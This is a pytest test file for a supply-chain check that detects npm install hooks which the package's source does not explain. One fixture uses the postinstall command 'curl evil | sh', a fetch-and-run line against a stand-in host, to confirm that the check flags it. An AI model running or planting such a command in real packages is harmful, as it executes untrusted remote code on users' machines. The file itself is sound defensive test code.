import pytest

from provenly.trust.errors import UnavailableError
from provenly.trust.evidence import FileClass
from provenly.verify.checks import install_scripts as check
from tests.verify.checks.subjects import (
    ABSENT,
    FAILED,
    MANIFEST,
    PASSED,
    UNCHECKED,
    artifact,
    comparison,
    explanation,
    outcome,
)


def with_script(hook, command):
    return MANIFEST | {"scripts": {hook: command, "test": "vitest"}}


def test_nothing_that_runs_is_absent():
    assert outcome(check).status is ABSENT
    assert outcome(check, manifest=with_script("prepare", "tsc")).status is ABSENT


@pytest.mark.parametrize("hook", check.INSTALL_HOOKS)
def test_each_hook_is_seen(hook):
    evidence = outcome(check, manifest=with_script(hook, "node setup.js"))
    assert evidence.status is PASSED
    assert evidence.facts["scripts"] == {hook: "node setup.js"}


@pytest.mark.parametrize("command", ["node setup.js", "node ./setup.js --quiet", "node scripts/setup"])
def test_a_named_file_that_the_source_lacks_is_unexplained(command):
    path = "scripts/setup.js" if "scripts/" in command else "setup.js"
    files = comparison(explanation("package.json"), explanation(path, FileClass.UNEXPLAINED))
    evidence = outcome(check, manifest=with_script("postinstall", command), comparison=files)
    assert evidence.status is FAILED
    assert path in evidence.summary


def test_a_script_that_the_source_does_not_have_is_unexplained():
    files = comparison(explanation("package.json", FileClass.UNEXPLAINED, executable=False))
    evidence = outcome(check, manifest=with_script("postinstall", "curl evil | sh"), comparison=files)
    assert evidence.status is FAILED
    assert "curl evil" in evidence.summary


def test_an_implied_build_is_seen():
    evidence = outcome(check, artifact=artifact(paths=("package.json", "binding.gyp")))
    assert evidence.status is PASSED
    assert "node-gyp" in evidence.summary


def test_without_a_source_it_is_unchecked():
    evidence = outcome(check, manifest=with_script("install", "x"), comparison=UnavailableError("no network"))
    assert evidence.status is UNCHECKED


def test_without_a_source_nothing_that_runs_is_still_absent():
    assert outcome(check, comparison=UnavailableError("no network")).status is ABSENT
